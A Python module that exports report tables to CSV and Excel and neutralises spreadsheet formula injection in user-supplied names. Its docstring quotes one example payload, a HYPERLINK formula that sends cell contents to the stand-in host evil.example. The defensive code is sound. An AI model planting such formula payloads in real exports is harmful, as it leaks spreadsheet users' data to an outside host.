"""Export of report tables: CSV (UTF-8 with a byte-order mark, so that Excel reads Vietnamese
right) and Excel (openpyxl; one sheet per table, a title naming the center and the period).
Minutes and rates are numbers, not text, so a spreadsheet can compute with them.

Text that a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
carriage return: OWASP's list) is neutralised, since names come from people: an officer named
`=HYPERLINK("http://evil.example/?leak="&A1, ...)` must not become a live formula. In CSV it is
prefixed with a single quote; in Excel it is stored as a string (never a formula) with the
quote-prefix style, so that editing the cell does not turn it into one either. Numbers stay
numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils import get_column_letter

from .tables import Table, cell, value

FORMATS = {"int": "#,##0", "pct": "0.0", "min": "0.0", "score": "0.00"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(v) -> bool:
    """Text that a spreadsheet would evaluate rather than show."""
    return isinstance(v, str) and v.startswith(FORMULA_START)


def _csv_text(v):
    return "'" + v if formula_like(v) else v


def csv_bytes(table: Table, lang: str = "vi") -> bytes:
    """One table as CSV: a header row, then the rows."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([_csv_text(c.header(lang)) for c in table.columns])
    for row in table.rows:
        out = []
        for col in table.columns:
            raw, kind = value(row, col, lang)
            v = cell(raw, kind)
            out.append("" if v is None else _csv_text(v))
        writer.writerow(out)
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def _cells(ws, values: list, kinds: list | None = None, **style) -> list:
    """A row as write-only cells: formula-like text stored as a plain string with the quote prefix
    (never a formula), numbers with their format, `style` (font, fill...) on every cell."""
    out = []
    for i, v in enumerate(values):
        kind = kinds[i] if kinds else None
        # A plain value where it needs nothing more (most cells: a cell object costs 5× more);
        # a whole number needs its format only from 1,000 on (General shows smaller ones alike).
        fmt = FORMATS.get(kind) if v is not None and not (kind == "int" and -1000 < v < 1000) else None
        if not (style or fmt or formula_like(v)):
            out.append(v)
            continue
        c = WriteOnlyCell(ws, value=v)
        if formula_like(v):
            c.data_type = "s"  # openpyxl made it a formula ("f")
            c.quotePrefix = True
        if fmt:
            c.number_format = fmt
        for k, val in style.items():
            setattr(c, k, val)
        out.append(c)
    return out


def _sheet(wb: Workbook, table: Table, heading: list[str], lang: str) -> None:
    # Write-only: rows stream out (a year's one row per rating is 180,000 rows; the in-memory
    # worksheet took 80 s for it). Widths and the frozen header are set before the first row.
    ws = wb.create_sheet(table.name[:31])
    for i, col in enumerate(table.columns, start=1):
        width = 28 if col.kind == "text" else max(9, min(18, len(col.header(lang)) // 2 + 4))
        ws.column_dimensions[get_column_letter(i)].width = width
    ws.freeze_panes = f"B{len(heading) + 3}"
    for line in heading:
        ws.append(_cells(ws, [line]))
    ws.append(_cells(ws, [table.title(lang)], font=Font(bold=True, size=12)))
    ws.append(_cells(ws, [c.header(lang) for c in table.columns], font=Font(bold=True),
                     fill=PatternFill("solid", fgColor="DCE6F2"), alignment=Alignment(wrap_text=True, vertical="center")))
    for row in table.rows:
        values, kinds = [], []
        for col in table.columns:
            raw, kind = value(row, col, lang)
            values.append(cell(raw, kind))
            kinds.append(kind)
        ws.append(_cells(ws, values, kinds))


def xlsx_bytes(tables: list[Table], heading: list[str], lang: str = "vi") -> bytes:
    """Tables as an Excel workbook, one sheet each, each headed by `heading` lines."""
    wb = Workbook(write_only=True)
    for table in tables:
        _sheet(wb, table, heading, lang)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
